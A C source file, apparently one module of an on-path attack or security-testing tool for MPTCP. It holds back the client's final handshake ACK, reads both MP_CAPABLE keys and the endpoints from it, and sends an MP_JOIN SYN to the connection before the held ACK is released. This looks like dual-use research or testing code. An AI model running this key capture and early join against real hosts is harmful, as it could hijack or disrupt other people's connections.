// SPDX-License-Identifier: GPL-2.0-only
/*
 * The ACK that ends the client's first handshake is on its way for a while, as on a long path.
 * It has both MPTCP keys, so in that time the attacker knows a token that leads nowhere yet.
 */
#include <stdio.h>

#include "attacker.h"

/* The ACK is not passed on until pass_first(). The keys and the ends go to @target */
bool hold_first(struct frame *frame, struct connection *target)
{
	int64_t until = now_ms() + 20 * patience_ms;
	struct segment segment;
	const uint8_t *capable;

	fflush(stdout);
	hold_firsts = hold_data = true;
	held_data.len = 0;
	do {
		if (!pump(until, false, frame))
			return false;
		capable = parse_segment(frame, &segment) ?
				  find_mptcp(&segment, MP_CAPABLE) :
				  NULL;
	} while (!capable);
	*target = (struct connection){
		.ends = { [CLIENT] = segment.from, [SERVER] = segment.to },
		.keys = { [CLIENT] = get64(capable + 4),
			  [SERVER] = get64(capable + 12) },
	};
	return true;
}

/* Not before that time */
void pass_first(int path, int64_t arrives, struct frame *held_frame)
{
	struct segment segment;
	struct frame frame;

	while (now_ms() < arrives)
		pump(arrives, false, &frame);
	hold_firsts = hold_data = false;
	if (!parse_segment(held_frame, &segment))
		return;
	learn_connection(path, CLIENT, &segment);
	pass_segment(path, CLIENT, held_frame, &segment);
	if (parse_segment(&held_data, &segment))
		pass_segment(path, CLIENT, &held_data, &segment);
}

/* In that time: the SYN of a join to that connection */
bool cmd_early(void)
{
	struct connection target;
	struct attempt attempt;
	struct frame frame;

	if (!hold_first(&frame, &target))
		return false;
	start_attempt(&attempt, &target, &target, 0);
	syn_answered(&attempt);
	pass_first((int)arg_number("path", "1") - 1, now_ms(), &frame);
	return true;
}
